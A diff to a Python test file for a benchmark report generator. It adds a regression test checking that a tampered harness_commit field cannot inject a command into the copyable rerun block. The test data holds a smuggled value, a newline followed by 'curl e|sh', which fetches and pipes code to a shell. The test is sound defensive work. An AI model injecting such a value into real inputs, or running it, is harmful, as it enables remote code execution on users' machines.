@@ -235,6 +235,23 @@ class ReportTest(unittest.TestCase):
             ({"variant": "patched"}, 1000.0)])]))
         self.assertIn("No significant change in cpu_loop_rate", text)
 
+    def test_how_to_rerun_holds_no_line_a_stored_set_wrote(self):
+        # Issue 39, finding 5: a harness_commit of "x\ncurl e|sh\n" put `curl e|sh` on a line of its own in the
+        # block people copy. Every result of the set says the same (a set must agree on its harness).
+        folder = os.path.join(self.dir, "hostile")
+        write_set(folder, [({"variant": "stock"}, 1000.0), ({"variant": "patched"}, 990.0)], runs=3)
+        for path in glob.glob(os.path.join(folder, "cells", "*.json")):
+            with open(path) as f:
+                doc = json.load(f)
+            doc["provenance"]["harness_commit"] = "x\ncurl e|sh\n"
+            with open(path, "w") as f:
+                json.dump(doc, f)
+        lines = report.rerun_commands([resultsets.load_run(folder, name="hostile")])
+        self.assertEqual(len(lines), 2, lines)
+        self.assertEqual(lines[0], "# hostile (harness not a commit id):")
+        self.assertTrue(lines[1].startswith("bazel run "), lines)
+        self.assertFalse(any(line.startswith("curl") for text in lines for line in text.splitlines()))
+
     def test_the_provenance_appendix_names_a_round_that_lost_cpu_to_steal(self):
         # SYNTHETIC noise blocks (as rigs/matrix/hostnoise.py records them): round 2 lost 8 % of the CPUs to the
         # hypervisor, beyond any band (the floor is 1 %, the default 5 %); the others 0.1 %.
